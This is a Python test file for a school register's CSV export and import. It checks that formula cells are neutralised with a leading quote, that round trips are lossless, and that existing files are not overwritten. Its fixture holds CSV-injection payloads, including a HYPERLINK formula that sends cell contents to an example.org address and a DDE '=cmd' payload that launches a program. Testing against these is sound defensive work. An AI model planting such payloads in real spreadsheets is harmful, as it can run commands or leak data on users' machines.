"""What export writes and import keeps: no cell that a spreadsheet runs as a formula (OWASP's
CSV-injection rule), a lossless round trip, text imported verbatim, and an export that never
replaces a file unasked."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from spoenk_publisher.register import ExportFileExists, Person, Register, Role

#: Names and groups a pupil (or a prank) could put in a school's list.
FORMULAS = [
    ("F1", '=HYPERLINK("https://example.org/?"&A1;"Klik hier")', "=1+1"),
    ("F2", "\t=2+2", "+31 6 12345678"),
    ("F3", "-Sanne", "@SUM(A1:A9)"),
    ("F4", "\r=cmd|' /C calc'!A0", "5B"),
    ("F5", "Daan 'de' Jansen", "'=al gemarkeerd"),
]


def _cells(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_export_neutralises_formulas_and_import_undoes_exactly_that(
    register: Register, tmp_path: Path, today: date
) -> None:
    for person_id, name, group in FORMULAS:
        register.add_person(Person(person_id, name, group, Role.PUPIL))
        register.record_consent(person_id, "website", True)
    path = tmp_path / "export.csv"
    register.export_csv(path, today=today)

    rows = _cells(path)
    for cells in rows[1:]:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cells
    by_id = {cells[0]: cells for cells in rows[1:]}
    assert by_id["F1"][1].startswith("'=HYPERLINK(")
    assert by_id["F2"][1:3] == ["'\t=2+2", "'+31 6 12345678"]
    assert by_id["F3"][1:3] == ["'-Sanne", "'@SUM(A1:A9)"]
    # A quote inside stays; text that already starts with a quote and a formula start gets one
    # more quote, so that import gives back exactly what was there.
    assert by_id["F5"][1:3] == ["Daan 'de' Jansen", "''=al gemarkeerd"]

    with Register.open(tmp_path / "fresh.db", actor="tester") as fresh:
        fresh.import_csv(path, today=today)
        for person_id, name, group in FORMULAS:
            assert (fresh.person(person_id).name, fresh.person(person_id).group) == (
                name,
                group,
            ), person_id
        again = tmp_path / "again.csv"
        fresh.export_csv(again, today=today)
    assert again.read_bytes() == path.read_bytes()  # lossless, both ways


def test_import_keeps_text_verbatim_but_for_surrounding_spaces(
    register: Register, tmp_path: Path, today: date
) -> None:
    path = tmp_path / "lijst.csv"
    path.write_text(
        "leerlingnummer;naam;groep;website\r\n"
        '1001;"\t=2+2";  5B  ;ja\r\n'
        "  1002  ;   Daan   Jansen  ;'5B;ja\r\n",
        encoding="utf-8",
    )
    register.import_csv(path, today=today)
    assert register.person("1001").name == "\t=2+2"  # the tab stays: no formula is made
    assert register.person("1001").group == "5B"
    assert register.person("1002").name == "Daan Jansen"
    assert register.person("1002").group == "'5B"  # a quote before no formula start stays


def test_export_refuses_to_replace_a_file_unless_told(
    register: Register, tmp_path: Path, today: date
) -> None:
    register.add_person(Person("1001", "Sanne de Vries"))
    path = tmp_path / "register.csv"
    path.write_text("mijn eigen lijst\n")

    with pytest.raises(ExportFileExists) as error:
        register.export_csv(path, today=today)
    assert error.value.text("nl") == "register.csv bestaat al; geef --overwrite om het te vervangen"
    assert path.read_text() == "mijn eigen lijst\n"

    register.export_csv(path, today=today, overwrite=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfleerlingnummer;")
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".tmp") == []


def test_a_new_export_is_created_whole(register: Register, tmp_path: Path, today: date) -> None:
    register.add_person(Person("1001", "Sanne de Vries"))
    path = tmp_path / "nieuw.csv"
    assert register.export_csv(path, today=today) == 1
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".nieuw")] == []
    assert path.stat().st_mode & 0o077 == 0  # personal data: the owner's only
